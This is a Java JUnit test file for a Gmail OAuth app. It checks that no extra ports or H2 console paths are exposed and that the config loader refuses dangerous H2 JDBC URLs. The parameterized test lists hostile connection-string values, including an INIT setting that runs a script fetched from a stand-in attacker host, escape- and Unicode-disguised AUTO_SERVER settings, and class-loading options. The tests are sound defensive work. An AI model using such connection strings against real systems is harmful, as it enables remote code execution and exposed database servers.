package io.github.gmailoauth;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.gmailoauth.testing.Browser;
import io.github.gmailoauth.testing.TestApp;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** No H2 console, no H2 TCP/PG/web server, no listening port but the app's own. */
class AdminSurfaceTest {
  @TempDir Path dir;

  @Test
  void startingTheAppOpensExactlyOneListeningPortAndNoConsole() throws Exception {
    Set<Integer> before = listeningPortsOfThisProcess();
    try (TestApp app = TestApp.start(dir)) {
      Set<Integer> opened = new HashSet<>(listeningPortsOfThisProcess());
      opened.removeAll(before);
      int appPort = URI.create(app.url("/")).getPort();
      int googlePort = URI.create(app.google.baseUrl()).getPort();
      assertEquals(
          Set.of(appPort, googlePort),
          opened,
          "only the app (and the test's stand-in Google) listen");
      Browser browser = new Browser();
      for (String path :
          List.of(
              "/h2-console",
              "/h2-console/",
              "/console",
              "/h2",
              "/WEB-INF/web.xml",
              "/db/migration/V1__google_grant.sql")) {
        assertEquals(404, browser.get(app.url(path)).statusCode(), path);
      }
    }
  }

  @Test
  void anH2UrlThatWouldOpenAServerIsRefusedAtStartUp() throws Exception {
    Path secrets =
        Files.writeString(
            dir.resolve("cs.json"), "{\"web\":{\"client_id\":\"a\",\"client_secret\":\"b\"}}");
    for (String url :
        List.of(
            "jdbc:h2:file:./x;AUTO_SERVER=TRUE",
            "jdbc:h2:tcp://localhost/x",
            "jdbc:h2:file:./x;auto_server=true")) {
      AppConfig.ConfigException e =
          assertThrows(
              AppConfig.ConfigException.class,
              () ->
                  AppConfig.load(
                      Map.of(
                              AppConfig.GOOGLE_CLIENT_SECRETS,
                              secrets.toString(),
                              AppConfig.TOKEN_ENCRYPTION_KEY,
                              TestApp.TOKEN_KEY,
                              AppConfig.DATABASE_URL,
                              url)
                          ::get));
      assertTrue(e.getMessage().contains(AppConfig.DATABASE_URL), e.getMessage());
    }
  }

  /**
   * H2 reads {@code ;KEY=VALUE} settings with keys upper-cased (Java's toUpperCase, so {@code ſ} is
   * an S), a backslash escaping any character, and any value: every spelling of a setting that
   * opens a port (AUTO_SERVER, AUTO_SERVER_PORT, FILE_LOCK=SOCKET) or runs code (INIT's SQL can
   * create Java aliases; DATABASE_EVENT_LISTENER and JAVA_OBJECT_SERIALIZER load classes;
   * AUTHENTICATOR, AUTHREALM, AUTHZPWD configure a pluggable authenticator) is refused.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:file:./x;AUTO_SERVER=1",
        "jdbc:h2:file:./x;AUTO_SERVER=yes",
        "jdbc:h2:file:./x;auto_server=On",
        "jdbc:h2:file:./x;MODE=PostgreSQL; AUTO_SERVER = TRUE",
        "jdbc:h2:file:./x;AUTO\\_SERVER=TRUE",
        "jdbc:h2:file:./x;auto_\u017ferver=true",
        "jdbc:h2:file:./x;;Auto_Server=TRUE;",
        "jdbc:h2:file:./x;AUTO_SERVER_PORT=9090",
        "jdbc:h2:file:./x;FILE_LOCK=SOCKET",
        "jdbc:h2:file:./x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:h2:file:./x;INIT=x\\;AUTO_SERVER=TRUE",
        "jdbc:h2:file:./x;DATABASE_EVENT_LISTENER=com.example.Listener",
        "jdbc:h2:file:./x;JAVA_OBJECT_SERIALIZER=com.example.S",
        "jdbc:h2:file:./x;AUTHREALM=x",
        "jdbc:h2:file:./x;AUTHENTICATOR=TRUE",
        "jdbc:h2:file:./x;AUTHZPWD=x",
        "JDBC:H2:TCP://localhost/x",
        "jdbc:h2:ssl://localhost/x"
      })
  void everySpellingOfAnH2SettingThatOpensAPortOrRunsCodeIsRefused(String url) throws Exception {
    Path secrets =
        Files.writeString(
            dir.resolve("cs.json"), "{\"web\":{\"client_id\":\"a\",\"client_secret\":\"b\"}}");
    AppConfig.ConfigException e =
        assertThrows(
            AppConfig.ConfigException.class,
            () ->
                AppConfig.load(
                    Map.of(
                            AppConfig.GOOGLE_CLIENT_SECRETS,
                            secrets.toString(),
                            AppConfig.TOKEN_ENCRYPTION_KEY,
                            TestApp.TOKEN_KEY,
                            AppConfig.DATABASE_URL,
                            url)
                        ::get));
    assertTrue(e.getMessage().contains(AppConfig.DATABASE_URL), e.getMessage());
  }

  @Test
  void ordinaryH2SettingsAreAccepted() throws Exception {
    Path secrets =
        Files.writeString(
            dir.resolve("cs.json"), "{\"web\":{\"client_id\":\"a\",\"client_secret\":\"b\"}}");
    String url = "jdbc:h2:file:./x;MODE=PostgreSQL;DB_CLOSE_ON_EXIT=FALSE;PASSWORD=a\\;b";
    assertEquals(
        url,
        AppConfig.load(
                Map.of(
                        AppConfig.GOOGLE_CLIENT_SECRETS,
                        secrets.toString(),
                        AppConfig.TOKEN_ENCRYPTION_KEY,
                        TestApp.TOKEN_KEY,
                        AppConfig.DATABASE_URL,
                        url)
                    ::get)
            .databaseUrl());
  }

  /** TCP ports in LISTEN state whose sockets this JVM holds (Linux /proc). */
  static Set<Integer> listeningPortsOfThisProcess() throws IOException {
    Set<String> inodes = new HashSet<>();
    try (Stream<Path> fds = Files.list(Path.of("/proc/self/fd"))) {
      fds.forEach(
          fd -> {
            try {
              String target = Files.readSymbolicLink(fd).toString();
              if (target.startsWith("socket:[")) {
                inodes.add(target.substring(8, target.length() - 1));
              }
            } catch (IOException e) {
              // The descriptor closed meanwhile.
            }
          });
    }
    Set<Integer> ports = new HashSet<>();
    for (String table : List.of("/proc/self/net/tcp", "/proc/self/net/tcp6")) {
      Path file = Path.of(table);
      if (!Files.exists(file)) {
        continue;
      }
      for (String line : Files.readAllLines(file).subList(1, Files.readAllLines(file).size())) {
        String[] f = line.trim().split("\\s+");
        if (f[3].equals("0A") && inodes.contains(f[9])) {
          ports.add(Integer.parseInt(f[1].substring(f[1].indexOf(':') + 1), 16));
        }
      }
    }
    return ports;
  }
}
